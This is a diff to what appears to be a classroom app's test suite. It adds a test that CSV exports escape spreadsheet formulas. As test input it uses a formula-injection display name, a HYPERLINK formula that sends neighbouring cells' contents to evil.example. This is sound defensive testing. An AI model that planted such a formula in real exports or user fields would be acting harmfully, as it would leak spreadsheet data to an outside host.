@@ -330,7 +330,32 @@ describe("the grid", () => {
     const attempts = await (
       await fetch(`${base}/api/instructor/classes/${cls.id}/attempts.csv`, { headers: { cookie: cookie! } })
     ).text();
-    assert.match(attempts, /job\/echo,yes,3,3,10,exists,,no/);
+    assert.match(attempts, /job\/echo,yes,3,3,10,\w+,[^,]*,[^,]*,no,exists:passed/);
+  });
+});
+
+describe("exports are data, never formulas", () => {
+  it("writes a formula-like display name as text in grid.csv, attempts.csv and exam.csv", async () => {
+    const { base, store } = await start();
+    const { cookie } = await signIn(base);
+    const cls = await newClass(base, cookie!, await csrfOf(base, cookie!));
+    const evil = '=HYPERLINK("http://evil.example/?"&A2&B2,"Open")';
+    assert.equal((await fetch(`${base}/join`, form({ code: cls.joinCode, name: evil }))).status, 303);
+    const [member] = await store.members(cls.id);
+    assert.equal(member.learner.displayName, evil, "the name is kept as typed");
+    await store.recordAttempt({
+      learnerId: member.learner.id,
+      mode: "namespace",
+      result: { exercise: "job/echo", passed: false, score: 0, maxScore: 3, durationMs: 5, checks: [] },
+    });
+    for (const file of ["grid.csv", "attempts.csv", "exam.csv"]) {
+      const text = await (
+        await fetch(`${base}/api/instructor/classes/${cls.id}/${file}`, { headers: { cookie: cookie! } })
+      ).text();
+      const cell = `"'=HYPERLINK(""http://evil.example/?""&A2&B2,""Open"")"`;
+      assert.ok(text.includes(`,${cell},`), `${file} holds the name as text:\n${text}`);
+      assert.doesNotMatch(text, /(^|,)"?=/m, `${file} has no cell starting with =`);
+    }
   });
 });
 
